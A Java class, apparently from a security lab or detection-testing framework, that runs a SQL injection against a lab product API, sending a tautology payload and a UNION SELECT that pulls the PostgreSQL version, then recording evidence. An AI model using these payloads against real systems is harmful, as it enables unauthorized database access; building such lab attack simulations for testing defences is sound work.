package dev.vigil.lab.attack;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;

/**
 * {@code sqli}: SQL injection into the api's product CGI, which pastes {@code ?id=} into the SQL
 * that psql sends to PostgreSQL — so each request also puts an injected query on the wire to the
 * database. A plain request first, then a tautology ({@code 1' OR '1'='1}) and a
 * {@code UNION ALL SELECT}. The effects: the tautology returns every product instead of one, and
 * the union returns the database's version string.
 */
final class SqlInjection implements Technique {

    static final String URL = "http://api.shop-api.svc.cluster.local:8080/cgi-bin/product?id=";
    static final String TAUTOLOGY = "1' OR '1'='1";
    static final String UNION = "-1' UNION ALL SELECT NULL, version(), NULL --";

    @Override
    public void perform(AttackRun run) throws Exception {
        Source from = run.source();
        String curl = run.toolkit().ensure(from, "curl");
        long one = rows(get(run, from, curl, "1", "request product 1 (the normal query)"));
        String all = get(run, from, curl, TAUTOLOGY, "SQL injection, tautology: id=" + TAUTOLOGY);
        run.check(one == 1 && rows(all) > 1, "the tautology did not return more rows than one product (" + rows(all)
                + " rows, against " + one + "): " + all);
        run.evidence("id=" + TAUTOLOGY + " returned " + rows(all) + " products instead of " + one);
        String union = get(run, from, curl, UNION, "SQL injection, union: id=" + UNION);
        run.check(union.contains("PostgreSQL"), "the UNION SELECT did not return the database version: " + union);
        run.evidence("id=" + UNION + " returned the database version: " + Shell.firstLineWith(union, "PostgreSQL"));
    }

    private static String get(AttackRun run, Source from, String curl, String id, String action) {
        String url = URL + URLEncoder.encode(id, StandardCharsets.UTF_8).replace("+", "%20");
        AttackRun.Ran r = run.command(from, curl, "-s", "-m", "10", "-w", CurlReply.WRITE_STATUS, url).run(action);
        CurlReply reply = CurlReply.of(r);
        run.check(reply.status() == 200, "the api answered " + reply.status() + " to " + url + ": " + r.stdout());
        return reply.body();
    }

    /** Lines of psql's unaligned output ({@code id|name|price}). */
    private static long rows(String body) {
        return body.lines().filter(l -> l.contains("|")).count();
    }
}
